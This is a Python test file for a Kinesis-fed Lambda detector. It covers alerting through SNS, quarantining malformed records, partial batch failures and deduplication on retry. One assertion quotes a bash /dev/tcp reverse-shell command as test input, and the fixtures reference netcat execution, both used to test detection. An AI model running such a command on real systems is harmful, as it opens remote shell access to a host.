"""The Kinesis detector end to end on moto: sensor batches in, alerts on SNS, bad
records quarantined, partial batch failures when SNS fails, once-only on retries.

``data/kinesis-event.json`` is a Lambda Kinesis event as AWS delivers it; its two
records are ``lanner.batch`` batches made with BatchWriter from
tests/data/syscall/ (record 1: dev_tcp_reverse_shell.benign_devnull.json then
dev_tcp_reverse_shell.json; record 2: netcat_exec.benign_port_check.json and a
node's "syscall event drop" alert).
"""

from __future__ import annotations

import base64
import copy
import json
from collections.abc import Iterator
from typing import Any

import boto3
import pytest
from botocore.stub import Stubber
from test_runtime import AWS_DATA, SYSCALL_DATA, FakeContext, Stack, emf_totals, make_stack

from functions.kinesis_detector import handler
from functions.runtime import get_runtime, reset_runtime
from lanner.batch import BatchWriter, unpack

EVENT = json.loads((AWS_DATA / "kinesis-event.json").read_text())
ORIGIN = "lanner-events/shardId-000000000000/"


@pytest.fixture
def stack(aws: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Stack]:
    yield make_stack(monkeypatch)
    reset_runtime()


def doc(name: str) -> dict[str, Any]:
    return dict(json.loads((SYSCALL_DATA / name).read_text()))


def batch(*docs: dict[str, Any], alerts: tuple[dict[str, Any], ...] = ()) -> bytes:
    w = BatchWriter()
    for d in docs:
        w.add(d)
    for a in alerts:
        w.add_alert(a)
    out = w.flush()
    assert out is not None
    return out.data


def record(data: bytes | str, seq: str) -> dict[str, Any]:
    """A record shaped like the fixture's, with other data and sequence number."""
    r = copy.deepcopy(EVENT["Records"][0])
    r["kinesis"]["data"] = data if isinstance(data, str) else base64.b64encode(data).decode()
    r["kinesis"]["sequenceNumber"] = seq
    r["eventID"] = f"shardId-000000000000:{seq}"
    return r


def invoke(*records: dict[str, Any]) -> Any:
    return handler({"Records": list(records)}, FakeContext())


def test_batches_in_alerts_out(stack: Stack, capsys: pytest.CaptureFixture[str]) -> None:
    assert handler(EVENT, FakeContext()) == {"batchItemFailures": []}
    got = {m["alert"]["rule"]: m for m in stack.alerts()}
    assert sorted(got) == ["Falco internal: syscall event drop", "Shell Command Uses Dev TCP"]

    shell = got["Shell Command Uses Dev TCP"]
    assert shell["alert"]["priority"] == "Warning"
    assert shell["alert"]["source"] == "syscall"
    assert (
        shell["alert"]["output_fields"]["proc.cmdline"]
        == "bash -c 'bash -i >& /dev/tcp/203.0.113.50/443 0>&1'"
    )
    assert shell["alert"]["output_fields"]["user.name"] == "node"
    assert "Command line opens a /dev/tcp connection" in shell["alert"]["output"]
    assert shell["attributes"] == {
        "priority": "4",
        "priority_name": "Warning",
        "rule": "Shell Command Uses Dev TCP",
        "source": "syscall",
        "hostname": "node-7.prod.example.net",
        "tags": json.dumps(shell["alert"]["tags"]),
        "kind": "alert",
    }
    assert "k8s_ns" not in shell["attributes"]  # a host process: no namespace

    totals = emf_totals(capsys.readouterr().out)
    assert (totals["EventsIn"], totals["AlertsOut"], totals["AlertsDuplicate"]) == (3, 2, 0)
    assert "BadRecords" not in totals


def test_node_alerts_pass_through_unchanged(stack: Stack) -> None:
    node_alert = unpack(base64.b64decode(EVENT["Records"][1]["kinesis"]["data"])).alerts[0]
    handler(EVENT, FakeContext())
    [drop] = [m for m in stack.alerts() if m["alert"]["source"] == "internal"]
    assert drop["alert"] == node_alert  # same uuid, same text, Falco's schema
    assert drop["attributes"]["priority_name"] == "Critical"
    assert drop["attributes"]["hostname"] == "node-7.prod.example.net"


def test_a_poison_record_is_quarantined_and_the_good_ones_go_through(
    stack: Stack, capsys: pytest.CaptureFixture[str]
) -> None:
    attack = batch(doc("dev_tcp_reverse_shell.json"))
    result = invoke(
        record(attack, "101"),
        record(attack[:-12], "102"),  # cut short in transit
        record("bm90IGJhc2U2NA=!*", "103"),
        record(b"hello", "104"),
        record(json.dumps({"hello": "world"}).encode(), "105"),
        # A single flat syscall event as JSON is accepted (see the module docstring).
        record(json.dumps(doc("netcat_exec.json")).encode(), "106"),
    )
    assert result == {"batchItemFailures": []}  # bad records never fail the batch

    assert sorted(m["alert"]["rule"] for m in stack.alerts()) == [
        "Netcat Or Socat Executes Commands",
        "Shell Command Uses Dev TCP",
    ]
    bad = {q["origin"]: q for q in stack.quarantined()}
    assert sorted(bad) == [ORIGIN + s for s in ("102", "103", "104", "105")]
    assert bad[ORIGIN + "102"]["reason"] == "truncated batch: the compressed data ends early"
    assert base64.b64decode(bad[ORIGIN + "102"]["payload"]) == attack[:-12]
    assert bad[ORIGIN + "102"]["encoding"] == "base64"
    assert bad[ORIGIN + "103"]["reason"].startswith("record data is not base64")
    assert bad[ORIGIN + "103"]["payload"] == "bm90IGJhc2U2NA=!*"
    assert (
        bad[ORIGIN + "104"]["reason"] == "not a lanner batch: starts with b'hell', expected b'LNB1'"
    )
    assert bad[ORIGIN + "104"]["payload"] == "hello"
    assert "no 'evt.type'" in bad[ORIGIN + "105"]["reason"]
    assert all(q["source"] == "syscall" for q in bad.values())
    assert emf_totals(capsys.readouterr().out)["BadRecords"] == 4


def test_a_bad_node_alert_is_quarantined_alone(stack: Stack) -> None:
    data = batch(doc("dev_tcp_reverse_shell.json"), alerts=({"output": "no rule here"},))
    assert invoke(record(data, "201")) == {"batchItemFailures": []}
    assert [m["alert"]["rule"] for m in stack.alerts()] == ["Shell Command Uses Dev TCP"]
    [q] = stack.quarantined()
    assert q["reason"] == "node alert 0: alert has no 'rule'"
    assert json.loads(q["payload"]) == {"output": "no rule here"}


def test_sns_failure_fails_only_that_record_and_the_retry_publishes_once(
    stack: Stack, capsys: pytest.CaptureFixture[str]
) -> None:
    benign = record(batch(doc("dev_tcp_reverse_shell.benign_devnull.json")), "301")
    attack = record(batch(doc("dev_tcp_reverse_shell.json")), "302")
    sns = boto3.client("sns")
    get_runtime().clients.set("sns", sns)
    with Stubber(sns) as stub:
        stub.add_client_error(
            "publish_batch", service_error_code="InternalError", http_status_code=500
        )
        assert invoke(benign, attack) == {"batchItemFailures": [{"itemIdentifier": "302"}]}
    assert stack.alerts() == [] and stack.quarantined() == []

    get_runtime().clients.set("sns", boto3.client("sns"))
    assert invoke(attack) == {"batchItemFailures": []}  # Lambda retries the failed record
    assert [m["alert"]["rule"] for m in stack.alerts()] == ["Shell Command Uses Dev TCP"]
    capsys.readouterr()


def test_a_retried_invocation_publishes_nothing_twice(
    stack: Stack, capsys: pytest.CaptureFixture[str]
) -> None:
    handler(EVENT, FakeContext())
    assert len(stack.alerts()) == 2
    capsys.readouterr()
    assert handler(EVENT, FakeContext()) == {"batchItemFailures": []}
    assert stack.alerts() == []
    totals = emf_totals(capsys.readouterr().out)
    assert (totals["AlertsOut"], totals["AlertsDuplicate"]) == (0, 2)


def test_a_record_that_cannot_be_quarantined_is_retried(stack: Stack) -> None:
    sqs = boto3.client("sqs")
    get_runtime().clients.set("sqs", sqs)
    with Stubber(sqs) as stub:
        stub.add_client_error(
            "send_message", service_error_code="InternalError", http_status_code=500
        )
        result = invoke(
            record(b"hello", "401"), record(batch(doc("dev_tcp_reverse_shell.json")), "402")
        )
    # Never dropped silently: the bad record stays on the shard for the retry.
    assert result == {"batchItemFailures": [{"itemIdentifier": "401"}]}
    assert len(stack.alerts()) == 1
